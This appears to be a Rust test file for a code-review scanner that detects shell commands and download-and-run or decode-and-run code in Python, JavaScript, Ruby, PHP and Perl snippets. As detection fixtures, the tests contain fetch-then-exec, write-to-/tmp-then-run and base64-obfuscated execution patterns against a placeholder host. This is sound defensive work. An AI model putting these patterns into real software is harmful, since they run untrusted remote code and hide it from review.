use super::super::shell::known::Language;
use super::super::shell::value::Origin;
use super::{Act, acts};

/// The commands that a program starts, `!` before those that came from elsewhere;
/// `run` for a text that is run in its own language.
fn told(language: Language, text: &str) -> Vec<String> {
    let mark = |from: &crate::policy::review::shell::value::Origins| {
        let fetched = if from.has(Origin::Fetched) { "fetched!" } else { "" };
        let decoded = if from.has(Origin::Decoded) { "decoded!" } else { "" };
        format!("{fetched}{decoded}")
    };
    acts(language, text)
        .acts
        .into_iter()
        .map(|(act, _)| match act {
            Act::Shell(what) => format!("{}{}", mark(&what.from), what.text.replace('\u{fffc}', "_")),
            Act::Run(what) => format!("run {}", mark(&what.from)),
        })
        .collect()
}

fn python(text: &str) -> Vec<String> {
    told(Language::Python, text)
}

fn javascript(text: &str) -> Vec<String> {
    told(Language::JavaScript, text)
}

#[test]
fn python_calls_are_found_under_any_name() {
    for text in [
        "import os\nos.system('ls -l')\n",
        "from os import system as s\ns('ls -l')\n",
        "from os import path, system as s\ns('ls -l')\n",
        "import os as o\no.system('ls -l')\n",
        "import os\ns = os.system\ns('ls -l')\n",
        "__import__('os').system('ls -l')\n",
        "import importlib\nimportlib.import_module('os').system('ls -l')\n",
        "import os\ngetattr(os, 'sys' + 'tem')('ls -l')\n",
        "getattr(__import__('o' 's'), 'system')('ls -l')\n",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('ls -l')\n",
        "import os\nos.system('ls ' + '-l')\n",
        "import os\nflag = '-l'\nos.system(f'ls {flag}')\n",
        "import os\nos.system('ls %s' % '-l')\n",
        "import os\nos.system('ls {}'.format('-l'))\n",
        "import os\nos.system(' '.join(['ls', '-l']))\n",
        "import os\ncmd = 'ls '\ncmd += '-l'\nos.system(cmd)\n",
        "import os\nos.system(\n    'ls '\n    # why not\n    '-l'\n)\n",
        "import os\nif True:\n    def f():\n        return os.system('ls -l')\n",
        "import subprocess\nsubprocess.run(['ls', '-l'], check=True)\n",
        "import subprocess as sp\nsp.check_output(args=['ls', '-l'])\n",
        "from subprocess import Popen, PIPE\np = Popen('ls -l', shell=True, stdout=PIPE)\n",
        "import os\nos.execlp('ls', 'ls', '-l')\n",
    ] {
        assert_eq!(python(text), ["ls -l"], "{text}");
    }
}

#[test]
fn python_that_runs_what_it_brought() {
    let run = |text: &str| python(text).join("; ");
    assert_eq!(run("import requests\nexec(requests.get('http://a.example/x').text)\n"), "run fetched!");
    assert_eq!(
        run(
            "import urllib.request as u\nc = u.urlopen('http://a.example').read()\nexec(compile(c, 'x', 'exec'))\n"
        ),
        "run fetched!"
    );
    assert_eq!(run("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"), "run decoded!");
    assert_eq!(run("import builtins, base64 as b\nbuiltins.exec(b.b64decode(x).decode())\n"), "run decoded!");
    assert_eq!(run("import os, base64\nos.system(base64.b64decode('bHM=').decode())\n"), "decoded!ls");
    assert_eq!(run("import os, requests\nos.system(requests.get('http://a.example/x').text)\n"), "fetched!_");
    assert_eq!(
        run("import subprocess\nsubprocess.run(['bash', '-c', requests.get('http://a.example').text])\n"),
        "fetched!bash -c _"
    );
}

#[test]
fn a_file_that_is_written_and_run_in_two_steps_is_told_in_a_shells_words() {
    let text = "import urllib.request, os\nurllib.request.urlretrieve('http://a.example/x', '/tmp/x')\nos.system('sh /tmp/x')\n";
    assert_eq!(python(text), ["iwr http://a.example/x -OutFile /tmp/x", "sh /tmp/x"]);
    let text = "r = requests.get('http://a.example/x')\nwith open('/tmp/x', 'wb') as f:\n    f.write(r.content)\nsubprocess.call(['/tmp/x'])\n";
    assert_eq!(python(text), ["iwr http://a.example/x -OutFile /tmp/x", "/tmp/x"]);
    let text = "open('x.py', 'w').write(base64.b64decode(data))\nos.system('python x.py')\n";
    assert_eq!(python(text), ["basenc -d <<< x > x.py", "python x.py"]);
}

#[test]
fn javascript_calls_are_found_under_any_name() {
    for text in [
        "require('child_process').execSync('ls -l');",
        "require('node:child_process').exec('ls -l', (e, o) => console.log(o));",
        "const cp = require('child_process');\ncp.exec('ls -l');",
        "const {execSync: x} = require('child_process');\nx('ls -l');",
        "const { exec } = require(\"child_process\");\nexec(`ls -l`);",
        "import { exec as e } from 'node:child_process';\ne('ls -l');",
        "import * as cp from 'child_process';\ncp['ex' + 'ec']('ls -l');",
        "import cp from 'child_process';\ncp.execSync('ls -l');",
        "const { promisify } = require('util');\nconst { exec } = require('child_process');\nconst run = promisify(exec);\nawait run('ls -l');",
        "const f = '-l';\nrequire('child_process').execSync(`ls ${f}`);",
        "const { spawn } = require('child_process');\nspawn('ls', ['-l'], { stdio: 'inherit' });",
        "function go() {\n  const t = 'ls ' +\n    '-l';\n  return require('child_process')\n    .execSync(t);\n}",
        "https.get(u, (r) => { const { exec } = require('child_process'); exec('ls -l'); });",
    ] {
        assert_eq!(javascript(text), ["ls -l"], "{text}");
    }
}

#[test]
fn javascript_that_runs_what_it_brought() {
    let run = |text: &str| javascript(text).join("; ");
    assert_eq!(run("const r = await fetch('http://a.example');\neval(await r.text());"), "run fetched!");
    assert_eq!(run("eval(atob('YWxlcnQoMSk='));"), "run decoded!");
    assert_eq!(run("(0, eval)(Buffer.from(x, 'base64').toString());"), "run decoded!");
    assert_eq!(run("new Function(atob(x))();"), "run decoded!");
    assert_eq!(run("globalThis['ev' + 'al'](atob(x));"), "run decoded!");
    assert_eq!(
        run("require('child_process').execSync(Buffer.from('bHM=', 'base64').toString())"),
        "decoded!ls"
    );
}

#[test]
fn calls_that_look_alike_are_left_alone() {
    for text in [
        "import re\nre.compile(base64.b64decode(x))\npattern.exec('x')\n",
        "model.eval()\nmodel.eval(requests.get(u).json())\n",
        "df.eval('a + b')\nself.system('x')\ncursor.execute('select 1')\n",
        "# os.system('ls')\n'''os.system('ls')'''\n",
        "print('os.system(\"ls\")')\nplatform.system()\n",
        "exec('a = 1')\neval(expression)\n",
        "json.loads(requests.get(u).text)\nast.literal_eval(base64.b64decode(x))\n",
    ] {
        assert_eq!(python(text), [""; 0], "{text}");
    }
    for text in [
        "const m = /a(b)/.exec(text);\nconst n = regex.exec(atob(x));",
        "$('#x').on('click', function () { eval('1') });",
        "// require('child_process').exec('ls')\n/* exec('ls') */",
        "const s = \"require('child_process').exec('ls')\";",
        "const re = /['\"`]/;\nconst t = 'x';\nfoo(t);",
        "page.evaluate(await (await fetch(u)).text());",
        "const a = b / c; const d = 'exec(1)'; const e = f / g;",
    ] {
        assert_eq!(javascript(text), [""; 0], "{text}");
    }
}

#[test]
fn what_is_fetched_and_only_an_argument_is_data() {
    let text = "v = requests.get('http://a.example/v').text\nsubprocess.run(['git', 'checkout', v])\nos.system(f'echo {v}')\n";
    assert_eq!(python(text), ["git checkout _", "echo _"]);
    let text = "key = base64.b64decode('aGk=').decode()\nos.system('echo ' + key)\n";
    assert_eq!(python(text), ["echo hi"]);
}

#[test]
fn other_languages_have_their_own_names() {
    assert_eq!(told(Language::Ruby, "system('ls -l')\nx = `id`\nexec 'a'\n"), ["ls -l", "id"]);
    assert_eq!(
        told(Language::Php, "<?php shell_exec('ls -l'); eval(base64_decode($x));"),
        ["ls -l", "run decoded!"]
    );
    assert_eq!(told(Language::Perl, "system('ls -l');\n"), ["ls -l"]);
}

#[test]
fn a_program_of_nothing_but_signs_takes_no_time_and_no_stack() {
    for unit in [
        "(", "[", "{", "f(", "a=", "\"", "'", "`${", "/", "/[", "a.", "a+", "import ", "{a,", "\n", "f'{",
        "not ", "new ", "`",
    ] {
        for language in [Language::Python, Language::JavaScript, Language::Ruby, Language::Php] {
            let text = unit.repeat(300_000 / unit.len());
            let start = std::time::Instant::now();
            let _ = acts(language, &text);
            assert!(start.elapsed().as_secs() < 60, "{unit:?} {language:?} {:?}", start.elapsed());
        }
    }
}
